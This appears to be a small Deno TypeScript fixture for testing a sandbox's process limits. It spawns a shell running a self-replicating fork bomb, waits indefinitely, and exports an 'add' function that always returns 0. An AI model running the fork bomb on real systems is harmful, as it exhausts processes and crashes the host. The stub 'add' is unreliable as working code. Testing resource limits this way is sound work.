// A shell that doubles itself.
// timed out|crashed: Not finished after|processes and threads|Cannot fork
// deno-lint-ignore-file
// @ts-nocheck: it would not ask us
new Deno.Command("sh", { args: ["-c", "f() { f | f & }; f"] }).spawn();
console.log("begun");
await new Promise((done) => setTimeout(done, 1e9));

export const add = (_a: number, _b: number): number => 0;
